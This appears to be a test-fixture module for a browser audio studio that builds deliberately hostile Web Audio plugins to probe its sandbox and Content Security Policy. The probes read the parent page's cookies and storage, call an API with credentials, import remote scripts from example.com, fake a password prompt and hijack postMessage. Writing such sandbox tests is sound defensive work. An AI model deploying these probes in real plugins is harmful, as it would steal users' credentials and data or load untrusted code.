/** Plugins written against us: text of modules, of which each lets its input pass and does its evil beside that. */

interface Parts {
  /** runs as the module is read */
  readonly module?: string;
  /** runs as the plugin is made, with `context` and `node` */
  readonly made?: string;
  /** the body of getState */
  readonly state?: string;
  readonly parameters?: string;
  /** what it says of itself */
  readonly descriptor?: string;
}

const EVIL = '{ name: "Evil", isInstrument: false }';

/** A whole plugin without any library. */
export const plugin = ({
  module = "",
  made = "",
  state = "return {}",
  parameters = "{}",
  descriptor = EVIL,
}: Parts): string => `
${module}
class Node extends GainNode {
  async getParameterInfo() { return ${parameters} }
  async getParameterValues() { return {} }
  async getState() { ${state} }
  async setState() {}
  async getCompensationDelay() { return 0 }
  scheduleEvents() {}
}
export default class {
  static isWebAudioModuleConstructor = true;
  static async createInstance(group, context) {
    let node = new Node(context);
    ${made}
    return { audioNode: node, descriptor: ${descriptor}, async createGui() {}, destroyGui() {} };
  }
}`;

/** Runs text on the audio thread, and `process` in every quantum: in the node that plays the plugin. */
export const onAudioThread = (text: string, process = ""): string => `
const script = \`${text}
registerProcessor("evil", class extends AudioWorkletProcessor {
  process(inputs, outputs) {
    ${process}
    for (const [side, channel] of (outputs[0] ?? []).entries()) channel.set(inputs[0]?.[side] ?? inputs[0]?.[0] ?? []);
    return true;
  }
})\`;
await context.audioWorklet.addModule(URL.createObjectURL(new Blob([script], { type: "text/javascript" })));
const plain = node;
node = new AudioWorkletNode(context, "evil", { outputChannelCount: [2] });
for (const name of Object.getOwnPropertyNames(Node.prototype).slice(1)) node[name] = plain[name];
`;

/** Changes what the audio thread sends back: `message` and `send` are at hand. */
export const instead = (body: string): string => `
const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (message, transfer) {
  const send = (other) => post.call(this, other);
  if (!message?.sound || currentTime < 0.7) return post.call(this, message, transfer);
  ${body}
};`;

/** What a plugin could want of the studio, each as an expression that gives or throws. */
export const READS: Readonly<Record<string, string>> = {
  "the page's document": "parent.document.title",
  "the page's storage": "parent.localStorage.length",
  "the page's address": "parent.location.href",
  "the top's document": "top.document.title",
  "its own localStorage": "localStorage.length",
  "its own sessionStorage": "sessionStorage.length",
  cookies: "document.cookie",
  "a cookie set": "document.cookie = 'a=b'",
  IndexedDB:
    "await new Promise((yes, no) => { const open = indexedDB.open('backline'); open.onsuccess = yes; open.onerror = no })",
  caches: "await caches.keys()",
  OPFS: "await navigator.storage.getDirectory()",
  "a service worker": "await navigator.serviceWorker.register('/sw.js')",
  "our API with credentials": "await fetch('/api/me', { credentials: 'include' })",
  "our page": "await fetch(new URL('/', location.href), { mode: 'no-cors' })",
  "another site": "await fetch('https://example.com/', { mode: 'no-cors' })",
  "a request of the old kind":
    "await new Promise((yes, no) => { const r = new XMLHttpRequest(); r.onload = yes; r.onerror = no; r.open('GET', '/api/me'); r.send() })",
  "a socket":
    "await new Promise((yes, no) => { const s = new WebSocket('wss://example.com/'); s.onopen = yes; s.onerror = no })",
  "a picture as a messenger":
    "await new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = '/icons/icon.svg' })",
  "a script of ours": "await import(new URL('/early.js', location.href).href)",
  "a script of another site": "await import('https://example.com/x.js')",
  "a worker that fetches": `await new Promise((yes, no) => {
    const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + new URL("/api/me", location.href) + "').then(() => postMessage(1), () => postMessage(0))"])));
    w.onmessage = ({ data }) => data ? yes() : no(new Error("refused"));
    w.onerror = no;
  })`,
  "a frame in the frame": `await new Promise((yes, no) => {
    addEventListener("securitypolicyviolation", (event) => event.effectiveDirective === "frame-src" && no(new Error("refused")));
    const f = document.createElement("iframe"); f.onload = yes; f.src = "https://example.com/"; document.body.append(f);
  })`,
  "the top, elsewhere": "top.location = 'https://example.com/'; throw new Error('it went on')",
  "a form": `await new Promise((yes, no) => {
    addEventListener("securitypolicyviolation", () => no(new Error("refused")));
    setTimeout(() => no(new Error("nothing happened")), 500);
    const f = document.createElement("form"); f.action = "/api/me"; f.method = "post"; f.target = "_blank"; document.body.append(f); f.submit();
  })`,
  "a window": "if (!open('https://example.com/')) throw new Error('refused')",
  "a question": "if (confirm('password?') === false) throw new Error('refused')",
  "the microphone": "await navigator.mediaDevices.getUserMedia({ audio: true })",
  "memory that is shared": "new SharedArrayBuffer(8)",
};

/** Those of READS that no network could answer either: the policy has to be what refuses them, and by which directive. */
export const REFUSED_BY: Readonly<Record<string, string>> = {
  "our API with credentials": "connect-src",
  "our page": "connect-src",
  "another site": "connect-src",
  "a request of the old kind": "connect-src",
  "a socket": "connect-src",
  "a picture as a messenger": "img-src",
  "a script of ours": "script-src-elem",
  "a script of another site": "script-src-elem",
  "a frame in the frame": "frame-src",
};

/** A plugin whose state tells what of READS it had, and which directives of the policy were in the way. */
export const curious = (): string =>
  plugin({
    state: `const had = {}, refused = {};
    let now = [];
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => now.push(effectiveDirective));
    const tries = { ${Object.entries(READS)
      .map(([name, code]) => `${JSON.stringify(name)}: async () => { ${code} }`)
      .join(",\n")} };
    for (const [name, attempt] of Object.entries(tries)) {
      now = refused[name] = [];
      try { await attempt(); had[name] = true } catch { had[name] = false }
      // a refusal is told in a task of its own
      await new Promise((done) => setTimeout(done));
    }
    return { had, refused };`,
  });
